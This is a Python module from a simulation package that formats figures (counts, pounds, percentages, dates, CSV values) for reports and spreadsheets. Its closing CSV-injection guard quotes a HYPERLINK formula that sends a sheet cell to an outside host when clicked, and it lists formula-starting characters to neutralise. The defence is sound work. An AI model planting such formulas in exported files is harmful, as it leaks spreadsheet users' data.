"""Numbers written for reading, in the terminal, in reports and in headlines, by what the
figure is (its :class:`~channelsim.fields.Field`, from the one place labels and units come
from): counts as whole numbers with thousands separators (their medians and interval bounds
too), money to three significant figures (``£17.5m``, ``£4,250``: :func:`money_text`), shares
as percentages, identifiers (seeds, years) as they are, other values to three significant
figures at most, ``–`` for a missing value. The same rules hold in tables, headlines, map
notes, reports and the explorer; CSV, workbooks, JSON and Parquet keep whole pounds (files for
computation, :func:`quoted_values`)."""

from __future__ import annotations

import math
from collections.abc import Mapping, Sequence
from typing import Any

from channelsim.fields import Field, Fields, describe, row_field

#: Columns whose values name the figure of their row (shown as its label and unit).
NAME_KEYS = ("figure", "measure", "metric", "field")
#: The name of the interval every output gives around a median (its 5th to 95th percentile
#: over the runs, or over the paired differences): headlines ("90% interval: 5–112"), map
#: notes, table titles, report and explorer text all call it so, never "5–95%".
INTERVAL_WORDS = "90% interval"
#: Decimals of a ratio (simulated ÷ observed), the same for every row: 1.00 beside 0.87.
RATIO_DECIMALS = 2


def date_text(day: Any) -> str:
    """A date as every text, title and note writes it: ``15 Jan 2026`` (tables of data and
    files keep ISO dates, ``2026-01-15``, which sort)."""
    return f"{day.day} {day:%b %Y}"


def month_label(month: str, first: Any, last: Any) -> str:
    """A month of a table of a period from ``first`` to ``last`` (dates): ``2026-06``, or
    ``2026-05 (1–28 May)`` for a month the period covers in part (a month's figure over 28
    days is not May's)."""
    import datetime as dt

    start = dt.date.fromisoformat(f"{month}-01")
    end = (start + dt.timedelta(days=31)).replace(day=1) - dt.timedelta(days=1)
    shown_from, shown_to = max(start, first), min(end, last)
    if (shown_from, shown_to) == (start, end):
        return month
    return f"{month} ({shown_from.day}–{shown_to.day} {start:%b})"


def whole_number(value: float) -> int:
    """A count's statistic as it is quoted: the nearest whole number, halves away from zero
    (a median of 262.5 people is quoted as 263, of −20.5 as −21). Every table, CSV and
    workbook a reader gets (explorer, compare, report, demo) quotes the medians and interval
    bounds of counts so; the JSON and Parquet outputs keep the exact quantiles for code."""
    shown = math.floor(abs(value) + 0.5)
    return -shown if value < 0 else shown


def format_number(value: float, *, money: bool = False, whole: bool = False) -> str:
    """Whole numbers with separators, money in £ (:func:`money_text`), other values to 3
    significant figures;
    ``whole`` rounds to a whole number first (a count's median or interval bound,
    :func:`whole_number`)."""
    size = abs(value)
    if whole:
        return f"{whole_number(value):,}"
    sign = "-" if value < 0 else ""
    if money:
        return money_text(value)
    if size == round(size) and size < 1e15:
        return f"{sign}{size:,.0f}"
    decimals = 0 if size >= 100 else max(0, 2 - math.floor(math.log10(size))) if size else 0
    text = f"{size:,.{decimals}f}"
    if "." in text:
        text = text.rstrip("0").rstrip(".")
    return sign + text


def format_value(value: Any, field: Field | None = None) -> str:
    """One value as text, written as ``field`` says (see the module's docstring)."""
    if hasattr(value, "item") and callable(value.item):
        value = value.item()
    if value is None or (isinstance(value, float) and not math.isfinite(value)):
        return "–"
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        if field is not None and field.kind == "id" and float(value) == int(value):
            return str(int(value))
        if field is not None and field.kind == "share":
            return f"{format_number(100 * float(value))}%"
        if field is not None and field.kind == "ratio":
            return f"{float(value):,.{RATIO_DECIMALS}f}"
        if field is not None and field.decimals is not None and field.kind == "float":
            text = f"{float(value):,.{field.decimals}f}"
            return text.lstrip("-") if float(text.replace(",", "")) == 0 else text  # not -0.0
        money = field is not None and field.money
        whole = field is not None and field.count
        return format_number(float(value), money=money, whole=whole)
    if hasattr(value, "isoformat"):
        return str(value.isoformat())
    return str(value)


def format_cell(value: Any, column: str = "", figure: Field | None = None) -> str:
    """A table's cell: ``column`` is the column's name; a statistic's column (median, low…)
    takes the ``figure`` its row gives."""
    field = describe(column) if column else None
    if field is None or field.kind == "stat":
        field = figure or field
    return format_value(value, field)


def readable(
    rows: Sequence[Mapping[str, Any]], keys: Sequence[str], sources: Sequence[Fields | None] = ()
) -> tuple[list[str], list[list[str]]]:
    """A table for reading: each column's heading (its label and unit; a statistic's label
    alone, its unit being the row's figure's) and its cells as text: a figure's name as its
    label and unit, values written as their figure says. Terminal tables and report tables
    both show rows through this."""
    figures = [row_field(row, *sources) for row in rows]
    headings, columns = [], []
    for key in keys:
        field = describe(key, *sources)
        headings.append(field.label if field.kind == "stat" or key in NAME_KEYS else field.heading)
        cells = []
        for row, figure in zip(rows, figures, strict=True):
            value = row.get(key)
            if key in NAME_KEYS and figure is not None and value == figure.name:
                cells.append(figure.heading)
            else:
                shown = (figure or field) if field.kind == "stat" else field
                cells.append(format_value(value, shown))
        columns.append(cells)
    return headings, columns


#: Significant figures of a measured value (not a count, an amount of money or an identifier)
#: in a CSV or workbook: 0.7750000000000026 people per boat is quoted 0.775, a wind of
#: 19.841115207110523 kn 19.8411. The Parquet beside it keeps every bit.
QUOTED_DIGITS = 6


def quoted_value(value: Any, field: Field | None = None) -> Any:
    """A value as a CSV or workbook quotes it, still a number (:func:`quoted_values`); text,
    dates and missing values as they are."""
    if hasattr(value, "item") and callable(value.item):
        value = value.item()
    if isinstance(value, bool) or not isinstance(value, int | float):
        return value
    return quoted_values([value], field)[0]


def quoted_values(values: Sequence[Any] | Any, field: Field | None = None) -> list[Any]:
    """Numbers (a sequence or array, one field's) as a CSV or workbook quotes them, as Python
    numbers: a count and an amount of money (and their statistics) as :func:`whole_number`
    (whole people, boats, pounds; a median of an even number of runs, 3801.5, is quoted 3802,
    halves away from zero); a ratio to :data:`RATIO_DECIMALS` decimals; an identifier and any
    integer as it is; any other value to :data:`QUOTED_DIGITS` significant figures (float
    noise gone: 0.30000000000000004 is 0.3), a whole one as an integer (``41472.0`` →
    ``41472``); NaN and infinities as ``None``."""
    import numpy as np

    array = np.asarray(values)
    if array.dtype.kind in "iub" or (field is not None and field.kind in ("id", "bool")):
        return [v if not isinstance(v, float) or math.isfinite(v) else None
                for v in array.tolist()]  # fmt: skip
    floats = array.astype(float)
    if field is not None and (field.count or field.money):
        floats = np.sign(floats) * np.floor(np.abs(floats) + 0.5)
    elif field is not None and field.kind == "ratio":
        return [round(v, RATIO_DECIMALS) if math.isfinite(v) else None for v in floats.tolist()]
    elif field is not None and field.decimals is not None and field.kind == "float":
        places = field.decimals  # people per boat to one decimal, as every table shows it
        return [round(v, places) + 0.0 if math.isfinite(v) else None for v in floats.tolist()]
    return [_quoted(v) for v in floats.tolist()]


def drawn_values(values: Sequence[Any] | Any, field: Field | None = None) -> Any:
    """Numbers as a chart draws them: as a table quotes them (:func:`quoted_values`: a
    count's median and interval bounds whole), as a float array with NaN for a missing value,
    so that a chart and the table beside it show one figure (a trade-off chart drew a deaths
    interval up to 0.05 people, the 95th percentile of 20 runs, beside a table's 0–0)."""
    import numpy as np

    quoted = quoted_values(values, field)
    return np.array([math.nan if v is None else float(v) for v in quoted], dtype=float)


def _quoted(value: float) -> float | int | None:
    if not math.isfinite(value):
        return None
    if not value.is_integer():
        value = float(f"{value:.{QUOTED_DIGITS}g}")
    return int(value) if value.is_integer() and abs(value) < 1e15 else value


def quoted_rows(
    rows: Sequence[Mapping[str, Any]],
    sources: Sequence[Fields | None] = (),
    credit: str | None = None,
) -> list[dict[str, Any]]:
    """Rows for a CSV a reader opens: beside a row's figure (its ``figure`` column) its
    ``label`` and ``unit``, each value as :func:`quoted_value` (a statistic as its row's
    figure; a share in per cent, as every table shows it: 41.8, under a heading that says
    ``(%)``, :func:`csv_headings`), and a ``source`` column with ``credit`` when given."""
    out = []
    for row in rows:
        figure = row_field(row, *sources)
        quoted: dict[str, Any] = {}
        for key, value in row.items():
            field = describe(key, *sources)
            shown = (figure or field) if field.kind == "stat" else field
            if shown.kind == "share" and isinstance(value, int | float) and value is not True:
                value = 100 * float(value)
                shown = PER_CENT
            # yes/no as the table says it (a CSV read True beside the table's "yes")
            quoted[key] = (
                format_value(value) if isinstance(value, bool) else quoted_value(value, shown)
            )
            named = key in NAME_KEYS and figure is not None and figure.label != value
            if named and figure is not None and "label" not in row:  # not a copy of the name
                quoted["label"], quoted["unit"] = figure.label, _quoted_unit(figure)
        if credit is not None:
            quoted["source"] = credit
        out.append(quoted)
    return out


PER_CENT = Field("per_cent", "per cent", "%")


def _quoted_unit(figure: Field) -> str:
    """The unit of a CSV row's figure as its values are quoted: ``%`` for a share (quoted
    in per cent), else the figure's own."""
    return "%" if figure.kind == "share" and figure.unit in ("", "fraction") else figure.unit


def csv_headings(keys: Sequence[str], sources: Sequence[Fields | None] = ()) -> list[str]:
    """The headings of a CSV of :func:`quoted_rows` under ``keys``: each column's label and
    unit (``Migrants arrived (people)``, ``Share prevented (%)``), a statistic's label as its
    source declares it (``total over the period: median``, ``difference from base: low
    (5%)``), as the CSV files of an output folder head their columns; a heading that two
    columns would share is followed by the code name (``Year [year]``)."""
    fields = [describe(key, *sources) for key in keys]
    names = []
    for key, field in zip(keys, fields, strict=True):
        if key == "source":
            names.append("Source")
        elif field.kind == "share" and field.unit in ("", "fraction"):
            names.append(f"{field.label} (%)")
        elif field.kind == "stat" or key in NAME_KEYS:
            names.append(field.label[:1].upper() + field.label[1:])
        else:
            names.append(field.heading)
    return [
        f"{name} [{key}]" if names.count(name) > 1 else name
        for key, name in zip(keys, names, strict=True)
    ]


#: A count this large or larger is rounded in a sentence (two significant figures, "about
#: 37,000"): a model's 36,705 people is precise to its seed, not to the person. Below it, a
#: count reads as every table, chart and map note quotes it (whole), so that a headline's
#: "90%: 5–112" is the map's "5–95% 5–112".
ROUNDED_COUNT = 1_000


def money_text(value: float) -> str:
    """An amount of money as a reader sees it everywhere (tables, headlines, map notes, reports,
    the explorer): three significant figures, in £ millions from £1m (``£17.5m``, ``£121m``),
    in £ billions from £1bn (``£1.21bn``), in pounds below (``£4,250``, ``£135,000``; pence
    only below £100: ``£12.50``). A model's £15,744,000 is not precise to the pound; the CSV,
    workbook, JSON and Parquet files keep whole pounds for computation."""
    if not math.isfinite(value):
        return "–"
    sign = "-" if value < 0 else ""
    size = _significant(abs(value), 3)
    if size >= 1e9:
        return f"{sign}£{_significant(size / 1e9, 3):g}bn"
    if size >= 1e6:
        return f"{sign}£{_significant(size / 1e6, 3):g}m"
    if size >= 100 or size == round(size):
        return f"{sign}£{round(size):,}"
    return f"{sign}£{size:,.2f}"


def about(value: float, field: Field, step: float | None = None) -> str:
    """A figure for a sentence: a count below :data:`ROUNDED_COUNT` as every table quotes
    it (whole, halves away from zero: :func:`format_value`), a larger one and any other value
    ≥ 100 to two significant figures, money as everywhere (:func:`money_text`) (``about`` is
    for the caller to say). ``step``: the phrase the count belongs to (a median, its interval
    and mean) is rounded to one step, :func:`phrase_step`, so that its figures are rounded
    alike (``30–1,040 more``, not ``29–1,000 more``: an exact bound beside a rounded one)."""
    if not math.isfinite(value):
        return "–"
    if field.money:
        return money_text(value)
    if field.kind == "share":
        return f"{format_number(100 * value)}%"
    if step is not None and field.count:
        return f"{whole_number(value / step) * round(step):,}"
    if rounded_in_sentence(abs(value), field):
        return format_number(_significant(value, 2), whole=field.count or abs(value) >= 100)
    if field.decimals is not None:
        return format_value(value, field)  # people per boat to one decimal, as in tables
    return format_number(value, whole=field.count)


def phrase_step(values: Sequence[float | None], field: Field) -> float | None:
    """The step every count of a phrase (a median, its 90% interval, its mean) is rounded to
    in a sentence, so that they are rounded alike: ``None`` when the phrase is not rounded
    (its largest is below :data:`ROUNDED_COUNT`: whole, as the tables quote it; not a count);
    else the place of the largest's second significant figure (37,000 and 35,000–38,000:
    1,000), made finer when a smaller figure would lose its first one (29 beside 1,040: 10,
    so ``30–1,040``, not 29 exact beside 1,040 rounded to 1,000), or when the lowest and the
    highest would read the same (188,824–192,410: 1,000, not "190,000–190,000"), never
    below 1."""
    sizes = [abs(v) for v in values if v is not None and math.isfinite(v)]
    if not field.count or not sizes or not rounded_in_sentence(max(sizes), field):
        return None
    step = 10.0 ** (math.floor(math.log10(max(sizes))) - 1)
    kept = [size for size in sizes if size >= 1]  # zero, and what rounds to it, stay so
    if kept:
        step = min(step, 10.0 ** math.floor(math.log10(min(kept))))
    finite = [v for v in values if v is not None and math.isfinite(v)]
    low, high = min(finite), max(finite)
    while step > 1 and low != high and whole_number(low / step) == whole_number(high / step):
        step /= 10  # an interval never collapses (188,824–192,410 read "190,000–190,000")
    return max(step, 1.0)


def rounded_in_sentence(size: float, field: Field) -> bool:
    """Whether a figure of this size is rounded to two significant figures in a sentence
    (a count of :data:`ROUNDED_COUNT` or more, any other measure of 100 or more)."""
    return abs(size) >= (ROUNDED_COUNT if field.count else 100)


def _significant(value: float, digits: int) -> float:
    if value == 0:
        return 0.0
    return round(value, digits - 1 - math.floor(math.log10(abs(value))))


#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a claim's
#: speaker ``=HYPERLINK("http://…?x="&A1, "click")`` sent the sheet's A1 away on a click.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """A CSV cell no spreadsheet runs: a text that starts like a formula gets a leading
    ``'`` (which spreadsheets show as text); numbers, and texts that read as numbers
    (``-35.5``), are left as they are."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value.replace(",", ""))
    except ValueError:
        return "'" + value
    return value
